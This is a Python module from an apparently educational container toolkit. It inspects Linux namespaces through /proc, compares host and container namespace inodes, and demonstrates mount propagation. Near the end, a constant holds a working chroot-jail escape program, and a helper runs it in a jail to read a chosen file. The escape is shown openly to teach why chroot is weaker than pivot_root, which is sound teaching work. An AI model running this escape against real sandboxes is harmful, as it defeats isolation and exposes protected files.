"""Looking at namespaces from the outside: what ``/proc`` tells about a process.

Every process has a link per namespace type in ``/proc/PID/ns/`` (``mnt``, ``pid``, ``net``, ``uts``,
``ipc``, ``user``, ``cgroup``, ``time``), whose target reads like ``net:[4026531840]``. The number is
the inode of the namespace in the kernel's internal ``nsfs``: two processes are in the same namespace
exactly when the numbers match. ``/proc/PID/status`` has a line ``NSpid:`` listing the process's PID in
every PID namespace it is visible in, outermost first — the host's PID and, last, the container's
(``1`` for its init), and ``PPid:`` its parent, which is how the host's process tree is rebuilt.
``/proc/PID/uid_map`` shows how a user namespace maps ids to the outside. ``/proc/PID/mountinfo`` lists
the mounts of the process's mount namespace; its optional fields (``shared:N``, ``master:N``) say which
peer group a mount propagates to, which is why a container's ``/`` is made private first.

This module only reads those files (:func:`propagation_lab` also makes the mounts it reads); notebook
01, :mod:`boxkit.viz.namespaces` and :mod:`boxkit.viz.mounts` show the results.
"""

from __future__ import annotations

import os
import subprocess
from dataclasses import dataclass

from .i18n import N_, _

NS_TYPES = ("mnt", "pid", "net", "uts", "ipc", "user", "cgroup", "time")
# the inode of the kernel's first PID namespace, fixed since Linux 3.8 (PROC_PID_INIT_INO in
# include/linux/proc_ns.h): a process whose pid link reads another number is in a container
PID_INIT_INO = 0xEFFFFFFC
# what each namespace type isolates, in English (message ids: translated with _() when shown)
NS_MEANING = {
    "mnt": N_("mount points (file system view)"), "pid": N_("process ids"), "net": N_("network stack"),
    "uts": N_("hostname"), "ipc": N_("System V IPC and POSIX queues"), "user": N_("user and group ids"),
    "cgroup": N_("cgroup root"), "time": N_("boot and monotonic clocks"),
}


def ns_inodes(pid: int | str = "self") -> dict[str, int]:
    out = {}
    for t in NS_TYPES:
        try:
            link = os.readlink(f"/proc/{pid}/ns/{t}")
        except OSError:
            continue
        out[t] = int(link[link.index("[") + 1:-1])
    return out


def nspid(pid: int) -> list[int]:
    """The PID of ``pid`` in each PID namespace, host first."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("NSpid:"):
                return [int(x) for x in line.split()[1:]]
    return [pid]


def id_map(pid: int, kind: str = "uid") -> list[tuple[int, int, int]]:
    with open(f"/proc/{pid}/{kind}_map") as f:
        return parse_id_map(f.read())


def parse_id_map(text: str) -> list[tuple[int, int, int]]:
    """The lines of a ``uid_map`` or ``gid_map`` file: (first id inside, first id outside, how many)."""
    return [tuple(int(x) for x in line.split()) for line in text.splitlines() if line.strip()]  # type: ignore[misc]


def unheld_ids(lines: list[tuple[int, int, int]], first: int, count: int) -> int:
    """How many of the ids ``first`` .. ``first + count - 1`` *of this namespace* its map lacks.

    A map line of a child user namespace, ``inside outside count``, names ids of the *parent*
    namespace in its outside column, and the kernel accepts it only if the parent has every one of
    them mapped (``user_namespaces(7)``: "The mapped user IDs (group IDs) must in turn have a mapping
    in the parent user namespace"). The parent's own ``uid_map`` lists those in its *inside* column. The
    host's first namespace maps all ids (``0 0 4294967295``); a Kubernetes pod with ``hostUsers:
    false``, or a Sysbox container, maps 65536 (``0 231072 65536``), so ``0 100000 65536`` cannot be
    written there: every one of the 65536 ids is lacking."""
    held = 0
    for inside, _outside, n in lines:
        lo, hi = max(first, inside), min(first + count, inside + n)
        held += max(0, hi - lo)
    return count - held


@dataclass
class NamespaceRow:
    type: str
    meaning: str
    host: int
    container: int

    @property
    def isolated(self) -> bool:
        return self.host != self.container


def compare(pid: int, host_pid: int | str = "self") -> list[NamespaceRow]:
    """One row per namespace type: the host's inode (this process, a host process) beside the container's."""
    h, c = ns_inodes(host_pid), ns_inodes(pid)
    return [NamespaceRow(t, NS_MEANING[t], h[t], c[t]) for t in NS_TYPES if t in h and t in c]


class NamespaceTable(list):
    """A list of rows that renders as an HTML table in a notebook."""

    def _repr_html_(self) -> str:
        # i18n: the last column of the namespace table: the container has a namespace of this type of its own
        own = _("own")
        # i18n: the last column of the namespace table: the container is in the host's namespace of this type
        shared = _("shared with host")
        rows = "".join(
            f"<tr><td><code>{r.type}</code></td><td>{_(r.meaning)}</td><td>{r.host}</td><td>{r.container}</td>"
            f"<td style='color:{'green' if r.isolated else 'gray'}'>{own if r.isolated else shared}"
            "</td></tr>" for r in self)
        # i18n: column headings of the namespace table: what a namespace type isolates, then its inode on
        # the host and in the container
        heads = (_("isolates"), _("host inode"), _("container inode"))
        head = "<th>ns</th>" + "".join(f"<th>{h}</th>" for h in heads)
        return f"<table><tr>{head}<th></th></tr>{rows}</table>"

    def __str__(self) -> str:
        # i18n: column headings of the printed namespace table: the host's inode, the container's, and
        # whether they differ (True/False); keep each to one word, the columns are 11 characters wide
        host, container, isolated = _("host"), _("container"), _("isolated")
        lines = [f"{'ns':<7} {host:>11} {container:>11}  {isolated}"]
        lines += [f"{r.type:<7} {r.host:>11} {r.container:>11}  {r.isolated}" for r in self]
        return "\n".join(lines)


def mounts(pid: int | str = "self") -> list[dict]:
    """The mount table of ``pid``'s mount namespace, from ``/proc/PID/mountinfo``: one dict per mount
    with its id, its parent's id, where it is mounted, its file system type and its propagation. The
    optional fields before `` - `` say how mounts propagate: ``shared:N`` (a member of peer group N: a
    mount or unmount under any peer happens under all of them), ``master:N`` (a slave: receives from
    group N, sends nothing back); neither means private."""
    out = []
    with open(f"/proc/{pid}/mountinfo") as f:
        for line in f:
            left, _sep, right = line.partition(" - ")
            a = left.split()
            opt = {k: int(v) for k, _colon, v in (x.partition(":") for x in a[6:]) if v.isdigit()}
            out.append({"id": int(a[0]), "parent": int(a[1]), "target": a[4].replace("\\040", " "),
                        "fstype": right.split()[0] if right else "?", "shared": opt.get("shared"),
                        "master": opt.get("master")})
    return out


def propagation_lab(container_pid: int, where: str = "/var/tmp") -> dict:
    """Mount propagation, measured: a tmpfs made *shared* on the host, a mount namespace copied from
    the host with its propagation unchanged (``unshare -m --propagation unchanged``), and then a second
    tmpfs mounted under the first, on the host. The copy's mount is a peer of the host's (same
    ``shared:N``), so the later mount appears in the copy too. A copy made in a new user namespace
    (``unshare -U -m``) is *less privileged*: its shared mounts become slaves (``master:N``,
    mount_namespaces(7)), which still receive the later mount but send nothing back.
    ``container_pid``'s namespace (made private first) gets nothing. Returns the four mount tables
    (trimmed to the story) and what each side saw; everything is unmounted before returning."""
    import tempfile
    import time

    # lazy: _sys loads ctypes (~12 ms); reading /proc needs no syscall
    from . import _sys

    demo = tempfile.mkdtemp(prefix="boxkit-prop-", dir=where)
    later = os.path.join(demo, "later")
    keep = {"/", "/proc", "/sys", "/dev"}

    def trim(rows: list[dict]) -> list[dict]:
        return [m for m in rows if m["target"] in keep or m["target"].startswith(demo)]

    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "boxkit-prop", demo], check=True)
    copies: list[subprocess.Popen] = []
    try:
        subprocess.run(["mount", "--make-shared", demo], check=True)
        for extra in ([], ["-U"]):   # the same user namespace; a new one (less privileged)
            copies.append(subprocess.Popen(["unshare", *extra, "-m", "--propagation", "unchanged",
                                            "sleep", "60"]))
        for copy in copies:
            for _try in range(200):   # until the copy exists: its mount namespace differs from ours
                if ns_inodes(copy.pid).get("mnt") != ns_inodes().get("mnt"):
                    break
                time.sleep(0.01)
        os.mkdir(later)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "boxkit-prop2", later], check=True)
        host, box = mounts(), mounts(container_pid)
        copied, in_userns = mounts(copies[0].pid), mounts(copies[1].pid)
        # the keys are what a notebook looks a tree up by and the figure's column titles: English
        # message ids (N_), which the figure translates when it draws them
        return {"trees": {N_("host"): trim(host), "unshare -m --propagation unchanged": trim(copied),
                          N_("unshare -U -m (a new user namespace)"): trim(in_userns),
                          N_("boxkit container"): [m for m in box if m["target"].count("/") <= 1]},
                "demo": demo, "later": later,
                "copy_sees_later": any(m["target"] == later for m in copied),
                "userns_sees_later": any(m["target"] == later for m in in_userns),
                "userns_demo": next((m for m in in_userns if m["target"] == demo), None),
                "container_shared": sum(1 for m in box if m["shared"] is not None)}
    finally:
        for copy in copies:
            copy.kill()
            copy.wait()
        _sys.SYS.umount2(demo, _sys.MNT_DETACH)
        os.rmdir(demo)


def table(pid: int) -> NamespaceTable:
    return NamespaceTable(compare(pid))


# A chroot jail is escapable by a process that may call chroot(2): chroot into a subdirectory leaves the
# working directory *outside* the new root, from where ``..`` climbs to the real root, and a second
# chroot(".") makes that the root again. pivot_root plus detaching the old root leaves nothing to climb to.
CHROOT_ESCAPE = r"""
import os, sys
os.makedirs("/.escape", exist_ok=True)
os.chroot("/.escape")           # new root below us; our cwd is now outside it
for _ in range(64):
    os.chdir("..")              # climb past the jail's root
os.chroot(".")                  # and make the top the root again
try:
    print(open(sys.argv[1]).read().strip())
except OSError as e:
    print("not reachable:", e.strerror)
"""


def chroot_escape_on_host(jail: str, secret_file: str, python: str = "python3") -> str:
    """Run the escape program in a plain ``chroot`` jail on the host (chroot(8), so the calling
    process never forks itself); returns what it printed."""
    out = subprocess.run(["chroot", jail, python, "-c", CHROOT_ESCAPE, secret_file],
                         capture_output=True, text=True, timeout=30)
    return (out.stdout + out.stderr).strip()


def _comm(pid: int | str) -> str:
    try:
        with open(f"/proc/{pid}/comm") as f:
            return f.read().strip()
    except OSError:
        return "?"


def ppid(pid: int | str) -> int:
    """The parent's PID (``PPid:`` of /proc/PID/status, as the host numbers it); 0 for PID 1."""
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("PPid:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def ancestry(pid: int) -> list[int]:
    """The host PIDs from PID 1 down to ``pid``'s parent: the branch of the host's process tree that
    the container hangs from."""
    chain = []
    p = ppid(pid)
    while p > 0 and len(chain) < 32:
        chain.append(p)
        p = ppid(p)
    return list(reversed(chain))


def snapshot(pid: int, hostname: str | None = None) -> dict:
    """What the namespace figure draws, all read from /proc now: the container's processes with both
    PIDs (``pids`` is NSpid, host first) and their parents, the branch of host processes from PID 1
    down to the container, and the namespace inodes of both sides (``rows``)."""
    mine = ns_inodes(pid)
    inside = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            if ns_inodes(entry).get("pid") == mine.get("pid"):
                inside.append({"host_pid": int(entry), "pids": nspid(int(entry)), "comm": _comm(entry),
                               "ppid": ppid(entry)})
        except OSError:
            continue
    inner = {p["host_pid"] for p in inside}
    top = min(inside, key=lambda d: d["pids"][-1])["host_pid"] if inside else pid
    host = [{"host_pid": p, "comm": _comm(p), "ppid": ppid(p)} for p in ancestry(top) if p not in inner]
    try:
        with open("/proc/sys/kernel/hostname") as f:
            host_name = f.read().strip()
    except OSError:
        host_name = "host"
    return {"container": sorted(inside, key=lambda d: d["pids"][-1]), "host": host,
            "rows": [vars(r) for r in compare(pid)], "hostname": hostname, "host_hostname": host_name}
